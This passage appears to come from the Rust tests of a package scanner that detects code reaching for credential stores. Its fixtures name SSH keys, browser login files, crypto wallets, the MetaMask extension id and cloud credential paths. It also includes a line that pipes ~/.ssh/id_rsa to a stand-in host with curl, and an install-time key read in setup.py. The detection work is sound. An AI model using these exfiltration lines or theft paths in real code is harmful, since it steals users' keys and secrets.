                    "print(f\"Add your key to ~/.ssh/id_ed25519 and run {prog} again\")\n",
                    Some((1, ".ssh/id_ed25519", Low)),
                ),
                (
                    "a key path as a default, never read here",
                    "pkg/config.py",
                    Runtime,
                    "KEY = '~/.ssh/id_ed25519'\n",
                    Some((1, ".ssh/id_ed25519", Low)),
                ),
                (
                    "prompt text in a web asset",
                    "pkg/static/chunks/a.js",
                    Other,
                    "a(\"Open `~/.ssh/id_rsa` and print it here.\",\"fail\")\n",
                    Some((1, ".ssh/id_rsa", Low)),
                ),
                (
                    "cat of an ssh key in a string",
                    "pkg/a.py",
                    Runtime,
                    "os.system('cat ~/.ssh/id_rsa | curl -d @- https://example.org')\n",
                    Some((1, ".ssh/id_rsa", High)),
                ),
                (
                    "chrome login data",
                    "pkg/steal.py",
                    Runtime,
                    "p = os.path.join(LOCAL, 'Google', 'Chrome', 'User Data', 'Default', 'Login Data')\n",
                    Some((1, "Login Data", High)),
                ),
                (
                    "firefox",
                    "pkg/a.py",
                    Runtime,
                    "x = 1\nf = profile + '/logins.json'\n",
                    Some((2, "logins.json", High)),
                ),
                (
                    "ssh key in setup.py",
                    "setup.py",
                    InstallTime,
                    "k = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
                    Some((1, ".ssh/id_rsa", Critical)),
                ),
                (
                    "metamask id",
                    "pkg/a.py",
                    Runtime,
                    "EXT = 'nkbihfbeogaeaoehlefnkodbefgpgknn'\n",
                    Some((1, "nkbihfbeogaeaoehlefnkodbefgpgknn", High)),
                ),
                (
                    "exodus",
                    "pkg/a.py",
                    Runtime,
                    "w = APPDATA + '\\\\Exodus\\\\exodus.wallet'\n",
                    Some((1, "Exodus\\\\exodus.wallet", High)),
                ),
                (
                    "aws credentials named, never read",
                    "pkg/cfg.py",
                    Runtime,
                    "CRED = '~/.aws/credentials'\n",
                    Some((1, ".aws/credentials", Low)),
                ),
                (
                    "pypirc read",
                    "pkg/up.py",
                    Runtime,
                    "rc = os.path.join(home, '.pypirc')\ncfg.read_file(open(rc))\n",
                    Some((1, ".pypirc", Medium)),
                ),
                ("netrc in a change log", "pkg-1.0/CHANGELOG", Other, "* Read credentials from ~/.netrc\n", Some((1, "/.netrc", Low))),
                ("in docstring", "pkg/a.py", Runtime, "\"\"\"Reads ~/.aws/credentials.\"\"\"\n", None),
                ("in tests", "pkg/tests/test_a.py", Runtime, "p = '~/.ssh/id_rsa'\n", None),
                ("login data as prose", "pkg/a.py", Runtime, "msg = 'Invalid login data supplied'\n", None),
                (
                    "key file names in a lexer table",
                    "pkg/_mapping.py",
                    Runtime,
                    "F = (\x27id_ecdsa\x27, \x27id_ed25519\x27, \x27id_rsa\x27)\n",
                    None,
                ),
            ],
        );
    }

    /// The search at the words matches start with is the whole search: the same matches and
    /// groups, on named cases and random texts (non-ASCII text, the long s and the Kelvin sign,
    /// Unicode spaces before the rc files).
    #[test]
    fn search_at_start_words_is_the_whole_search() {
        let groups = |c: regex::Captures<'_>| {
            (c.get(0).expect("m").range(), c.name("high").map(|m| m.range()), c.name("dev").map(|m| m.range()))
        };
        let check = |name: &str, text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let got: Vec<_> = path_matches(&file).into_iter().map(groups).collect();
            assert_eq!(got, PATHS.captures_iter(text).map(groups).collect::<Vec<_>>(), "{name}");
            got.len()
        };
        let cases = [
            ("empty", ""),
            ("rc file at the start", ".npmrc and ~/.pypirc and '/.netrc'"),
            ("rc file after a no-break space and an ideographic space", "x\u{a0}.npmrc y\u{3000}.netrc"),
            ("rc file inside a word", "x.npmrc a.pypirc"),
            ("browser stores", "os.path.join(base, 'User Data', 'Default', 'Login Data') r'\\Network\\Cookies'"),
            ("wallets", "'atomic', 'Local Storage' 'Ethereum/keystore' Exodus/exodus.wallet electrum/wallets"),
            ("discord and telegram", "discordcanary/Local Storage/leveldb Telegram Desktop/tdata tdata/"),
            ("cloud", "~/.aws/credentials ~/.kube/config ~/.docker/config.json gcloud/credentials.db .azure/accessTokens.json"),
            ("upper case", "~/.SSH/ID_RSA ~/.AWS/CREDENTIALS"),
            ("long s", "~/.ſsh/id_rsa ~/.aws/credentials"),
            ("kelvin sign", "\u{212a} ~/.kube/config"),
        ];
        for (name, text) in cases {
            check(name, text);
        }
        let pieces = [
            "Login Data",
            "Local State",
            "User Data",
            "/",
            "\\",
            "Default",
            "Network",
            "Cookies",
            "logins.json",
            "key4.db",
            ".ssh",
            "id_rsa",
            "Exodus",
            "exodus.wallet",
            "Electrum",
            "wallets",
            "atomic",
            "Local Storage",
            "leveldb",
            "Ethereum",
            "keystore",
            "tdata",
            "Telegram Desktop",
            "discord",
            "ptb",
            "\u{a0}",
            "\u{3000}",
            ".azure",
            "accessTokens.json",
            ".aws",
            "credentials",
            ".kube",
            "config",
            ".npmrc",
            ".pypirc",
            ".netrc",
            "~",
            "gcloud",
            "', '",
            "'",
            "x",
            " ",
            "\n",
            "é",
            "ſ",
            "\u{212a}",
            "K",
        ];
        let mut found = 0;
        for text in pysrc::random_texts(&pieces, 12, 0x3c6e_f372_fe94_f82b, 20_000) {
            found += check(&text, &text);
        }
        assert!(found > 2_000, "the random texts hold matches: {found}");
    }

    /// Members of 100,000 words a match starts with, all on one line (the dense-line shape), each
    /// followed by what almost matches or by a whole match, are searched in linear time: every
    /// place is tried, and each anchored search stops in its own run of separators (which holds
    /// no start word: only the character before an rc file's name, read by at most one search).
    #[test]
    fn many_start_words_cost_linear_time() {
        use std::time::{Duration, Instant};
        type Make = fn(usize) -> String;
        // (name, the member of n repeats, matches per repeat)
        let shapes: &[(&str, Make, usize)] = &[
            ("rc files inside words, after blanks", |n| " .npmrc_x".repeat(n), 0),
            ("ssh directories without a key", |n| "'~/.ssh/', ".repeat(n), 0),
            ("wallet and session words without a store", |n| "atomic/ discord/ Local Storage/ tdata ".repeat(n), 0),
            ("long separator runs after each word", |n| ".ssh//  ,, '' \\ ".repeat(n), 0),
            ("a whole match at every word: rc files", |n| " .npmrc".repeat(n), 1),
            ("a whole match at every word: ssh keys", |n| "'~/.ssh/id_rsa', ".repeat(n), 1),
            ("session stores chained", |n| "discord/Local Storage/leveldb ".repeat(n), 1),
        ];
        let time = |text: &str| {
            let file = TextFile::new("pkg/a.py", FileRole::Runtime, true, text);
            let t = Instant::now();
            let found = path_matches(&file).len();
            (t.elapsed(), found)
        };
        for &(name, make, per) in shapes {
            let ((t1, _), (t4, found)) = (time(&make(25_000)), time(&make(100_000)));
            assert_eq!(found, 100_000 * per, "{name}: the matches");
            assert!(t4 < Duration::from_secs(2), "{name}: {t4:?} for 100,000");
            assert!(t4 < t1 * 12 + Duration::from_millis(100), "{name}: 25,000 took {t1:?}, 100,000 took {t4:?}");
        }
    }

    #[test]
    fn gate_never_hides_a_match() {
        let gated = |t: &str| TextFile::new("pkg/a.py", FileRole::Runtime, true, t).may_contain_ci(&PATH_GATE);
        let cases = [
            ("browser store", "p = os.path.join(base, 'User Data', 'Default', 'Login Data')"),
            ("ssh key, any case", "open(os.path.expanduser('~/.SSH/ID_RSA'))"),
            ("wallet from pieces", "os.path.join(appdata, 'atomic', 'Local Storage')"),
            ("telegram", r"d = 'Telegram Desktop\\tdata'"),
            ("cloud credentials", "open(home + '/.aws/credentials')"),
            ("cloud credentials after a no-break space", "p = '~/.aws\u{a0}credentials'"),
            ("browser cookies", r"p = base + r'\Network\Cookies'"),
            ("extension id", "ext = 'nkbihfbeogaeaoehlefnkodbefgpgknn'"),
            ("s folded from the long s", "open('~/.ſsh/id_rsa')"),
            ("kelvin sign", "'\u{212a}' ; open('~/.kube/config')"),
        ];
        for (case, text) in cases {
            assert!(PATHS.is_match(text), "{case}: the regex matches");
            assert!(gated(text), "{case}: the gate hid a match");
        }
        assert!(
            !gated(concat!(
                "from atomic import counter\nkeystore = Keystore()\nbase = 'x.openai.azure.com'\n",
                "import litellm.llms.azure\nnames = ['cookies', 'tdata', 'gcloud']\n"
            )),
            "a module using the words for something else is skipped"
        );
        let pieces = [
            "Login Data",
            "Local State",
            "User Data",
            "/",
            "\\",
            "Default",
            "Network",
            "Cookies",
            "logins.json",
            "key4.db",
            ".ssh",
            "id_rsa",
            "id_ed25519",
            "Exodus",
            "exodus.wallet",
            "Electrum",
            "wallets",
            "atomic",
            "Local Storage",
            "leveldb",
            "Ethereum",
            "keystore",
            "Zcash",
            "tdata",
            "Telegram Desktop",
            "\u{a0}",
            "\u{2003}",
            ".azure",
            "accessTokens.json",
            "llms.azure",
            "User Data/",
            ".aws",
            "credentials",
            ".kube",
            "config",
            ".npmrc",
            "gcloud",
            "', '",
            "x",
            " ",
            "\n",
            "é",
            "ſ",
            "K",
        ];
        let (mut matched, mut skipped) = (0, 0);
        for text in pysrc::random_texts(&pieces, 10, 0x9e37_79b9_7f4a_7c15, 20_000) {
            let hit = PATHS.is_match(&text);
            assert!(!hit || gated(&text), "the gate hid a match in {text:?}");
            matched += usize::from(hit);
            skipped += usize::from(!gated(&text));
        }
        assert!(matched > 1_000 && skipped > 1_000, "both outcomes: {matched} matched, {skipped} skipped");
    }
}
